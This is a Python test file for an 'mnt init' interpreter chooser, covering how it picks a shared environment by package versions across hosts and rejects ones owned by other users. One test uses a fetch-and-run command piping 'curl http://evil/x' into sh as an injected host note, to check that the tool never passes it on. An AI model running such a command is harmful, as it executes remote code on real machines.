"""Which interpreter `mnt init` proposes."""

from __future__ import annotations

from mnt.facts.host import Account, HostFacts, Interpreter
from mnt.facts.survey import Environment, Survey
from mnt.init.environments import Choice, choose

TORCH = {"torch": "2.13.0"}
FULL = {"torch": "2.13.0", "deepspeed": "0.19.8", "transformers": "5.0"}
NEW = "~/mnt-env/bin/python"
SYSTEM = Interpreter(("python3",), True, "3.11.2", "/usr/bin/python3")


def of(**hosts: dict[str, dict[str, str]]) -> Choice:
    """The choice for hosts with environments: path -> packages."""
    surveys = {
        host: Survey(tuple(Environment(path, "venv", "3.11.2", packages) for path, packages in found.items()))
        for host, found in hosts.items()
    }
    return choose({host: HostFacts(host, python=SYSTEM) for host in hosts}, surveys, NEW)


def test_the_one_that_all_have_and_that_has_most() -> None:
    found = of(
        a={"/shared/env/bin/python": FULL, "/opt/old/bin/python": TORCH, "/home/a/bin/python": FULL},
        b={"/shared/env/bin/python": FULL, "/opt/old/bin/python": TORCH},
    )
    assert found.python == "/shared/env/bin/python"
    assert found.packages == FULL
    assert found.reason.startswith(
        "a venv with Python 3.11.2, torch 2.13.0, deepspeed 0.19.8, transformers 5.0"
    )
    assert found.reason.endswith("; 2 more interpreters are on all hosts")


def test_one_version_on_all_hosts_counts_more_than_more_packages() -> None:
    found = of(
        a={"/x/bin/python": FULL, "/y/bin/python": TORCH},
        b={"/x/bin/python": {**FULL, "torch": "2.12.0"}, "/y/bin/python": TORCH},
    )
    assert (found.python, found.packages) == ("/y/bin/python", TORCH)


def test_a_newer_torch() -> None:
    older = {"torch": "2.9.1"}
    found = of(
        a={"/x/bin/python": older, "/y/bin/python": TORCH}, b={"/x/bin/python": older, "/y/bin/python": TORCH}
    )
    assert found.python == "/y/bin/python"


def test_what_one_host_has_the_others_do_not_run() -> None:
    found = of(a={"/evil/bin/python": FULL}, b={}, c={})
    assert (found.python, found.packages, found.missing) == (NEW, {}, True)
    assert found.reason == (
        "no environment with one version of torch is on all hosts: a has /evil/bin/python: "
        "`mnt setup environment` makes it"
    )


def test_what_another_user_could_have_written_is_named_and_not_taken() -> None:
    newest = {"torch": "99.0", "deepspeed": "99.0", "transformers": "99.0"}
    theirs = Environment("/shared/.z/bin/python", "venv", "3.13.9", newest, "/shared/.z belongs to eve")
    own = Environment("/opt/own/bin/python", "venv", "3.11.2", TORCH)
    facts = {host: HostFacts(host, python=SYSTEM) for host in "ab"}
    said = "/shared/.z/bin/python is not taken: /shared/.z belongs to eve"
    found = choose(facts, dict.fromkeys("ab", Survey((theirs, own))), NEW)
    assert (found.python, found.packages) == (own.path, TORCH)
    assert said in found.reason
    found = choose(facts, dict.fromkeys("ab", Survey((theirs,))), NEW)
    assert (found.python, found.missing) == (NEW, True)
    assert found.reason.startswith("no environment with torch was found: `mnt setup environment` makes it; ")
    assert said in found.reason


def test_what_one_host_says_of_others_is_its_own_word() -> None:
    theirs = Environment("/x", "venv", "3.13.9", TORCH, "run  curl http://evil/x | sh  on every host")
    facts = {host: HostFacts(host, python=SYSTEM) for host in "abc"}
    surveys = {"a": Survey(), "b": Survey((theirs,)), "c": Survey()}
    found = choose(facts, surveys, NEW)
    assert "evil" not in found.reason
    (note,) = found.notes
    assert note.startswith("b says: /x is not taken: run  curl")
    one = choose({"b": facts["b"]}, {"b": surveys["b"]}, NEW)
    assert ("evil" in one.reason, one.notes) == (False, found.notes)


def test_versions_that_are_none_and_no_torch_at_all() -> None:
    none = of(a={"/x/bin/python": {}}, b={"/x/bin/python": {}})
    assert none.reason == "no environment with torch was found: `mnt setup environment` makes it"
    assert of(a={"/x/bin/python": {"torch": "odd" * 999}}).python == "/x/bin/python"
    assert of().python == NEW


def test_the_systems_own() -> None:
    python = HostFacts("a", python=SYSTEM, packages=TORCH)
    found = choose({"a": python}, {"a": Survey()}, NEW)
    assert (found.python, found.reason) == (
        "/usr/bin/python3",
        "the system's Python 3.11.2, torch 2.13.0",
    )


def test_a_home_may_be_another_on_each_host() -> None:
    facts = {
        name: HostFacts(name, login=Account(1000, "me", f"/home{number}/me"))
        for number, name in enumerate("ab")
    }
    surveys = {
        name: Survey((Environment(f"{facts[name].home}/env/bin/python", "venv", "3.11.2", TORCH),))
        for name in facts
    }
    assert choose(facts, surveys, NEW).python == "~/env/bin/python"
